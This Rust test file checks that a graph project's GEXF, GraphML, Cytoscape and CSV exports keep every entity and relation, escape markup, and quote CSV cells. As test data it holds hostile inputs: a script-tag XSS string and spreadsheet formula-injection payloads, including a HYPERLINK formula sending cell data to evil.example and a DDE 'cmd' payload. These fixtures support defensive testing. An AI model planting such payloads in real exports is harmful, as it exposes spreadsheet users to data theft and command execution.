//! Exports of the seed carry every entity, relation and citation, and stay
//! well formed whatever the data holds.

use alliance_map::formats::export::{csv, cytoscape, gexf, graphml};

#[test]
fn every_format_carries_every_entity_and_relation() {
    let data = crate::seed::seed();
    let (n, m) = (data.entities.len(), data.relations.len());
    let gexf = gexf::to_gexf(&data);
    assert_eq!(gexf.matches("<node id=").count(), n);
    assert_eq!(gexf.matches("<edge id=").count(), m);
    assert!(gexf.contains("start=\"2023-09-27\""), "dynamic dates");
    let graphml = graphml::to_graphml(&data);
    assert_eq!(graphml.matches("<node id=").count(), n);
    assert_eq!(graphml.matches("<edge id=").count(), m);
    let cy = cytoscape::to_cytoscape(&data);
    assert_eq!(cy["elements"]["nodes"].as_array().unwrap().len(), n);
    assert_eq!(cy["elements"]["edges"].as_array().unwrap().len(), m);
    assert_eq!(csv::entities_csv(&data).lines().count(), n + 1);
    assert!(csv::relations_csv(&data).starts_with("Source,Target,Type,Id,Label,"));
}

#[test]
fn hostile_text_stays_well_formed() {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/hostile.toml")).unwrap();
    let data = alliance_map::check::check(&text).dataset.unwrap();
    for xml in [gexf::to_gexf(&data), graphml::to_graphml(&data)] {
        assert!(!xml.contains("<script"), "markup from data must be escaped");
        assert!(xml.contains("&lt;script&gt;"));
    }
    assert!(csv::entities_csv(&data).contains(",<script>alert(1)</script>,"), "CSV is not markup: the name is kept as written");
}

#[test]
fn csv_quotes_commas_quotes_and_line_breaks_so_a_csv_reader_gets_each_cell_back() {
    let toml = r#"
[[source]]
id = "s"
title = "S"
[[entity]]
id = "a"
name = "Changan, Automobile"
kind = "company"
aliases = ["the \"Changan\" group", "line\nbreak"]
[[entity]]
id = "b"
name = "Huawei \"HI\"\r\nTechnologies"
kind = "company"
[[relation]]
from = "a"
to = "b"
type = "partner_of"
note = "up to 40%, \"expected\""
sources = ["s"]
"#;
    let data = alliance_map::check::check(toml).dataset.expect("clean");
    let entities: Vec<::csv::StringRecord> = ::csv::Reader::from_reader(csv::entities_csv(&data).as_bytes()).records().map(Result::unwrap).collect();
    let cells: Vec<(&str, &str)> = entities.iter().map(|r| (&r[1], &r[5])).collect();
    assert_eq!(cells, [("Changan, Automobile", "the \"Changan\" group;line\nbreak"), ("Huawei \"HI\"\r\nTechnologies", "")]);
    let relations: Vec<::csv::StringRecord> = ::csv::Reader::from_reader(csv::relations_csv(&data).as_bytes()).records().map(Result::unwrap).collect();
    assert_eq!((relations.len(), &relations[0][13]), (1, "up to 40%, \"expected\""));
}

/// A dataset whose names and notes a spreadsheet would run as formulas.
pub fn formula_dataset() -> alliance_map::model::Dataset {
    let toml = r#"
[[source]]
id = "s"
title = "S"
[[entity]]
id = "a"
name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
kind = "company"
aliases = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "'=already quoted", "'plain"]
[[entity]]
id = "b"
name = "-2+3"
kind = "company"
[[entity]]
id = "c"
name = "\t=IMPORTXML(A1)"
kind = "company"
[[relation]]
from = "a"
to = "b"
type = "partner_of"
note = "\r=1+1"
sources = ["s"]
"#;
    let checked = alliance_map::check::check(toml);
    checked.dataset.unwrap_or_else(|| panic!("{:#?}", checked.diagnostics))
}

#[test]
fn csv_cells_that_start_a_formula_get_a_leading_quote() {
    let data = formula_dataset();
    let entities = csv::entities_csv(&data);
    assert!(entities.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\","), "{entities}");
    assert!(entities.contains(",'-2+3,"), "{entities}");
    assert!(entities.contains(",'\t=IMPORTXML(A1),"), "{entities}");
    assert!(entities.contains(",'+cmd|' /C calc'!A0;@SUM(1+1);'=already quoted;'plain,"), "aliases are one cell, which starts with +: {entities}");
    let relations = csv::relations_csv(&data);
    assert!(relations.contains(",\"'\r=1+1\","), "the note, before the claim columns: {relations}");
    for line in entities.lines().chain(relations.lines()).skip(1) {
        for cell in line.split(',') {
            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {line:?}");
        }
    }
}
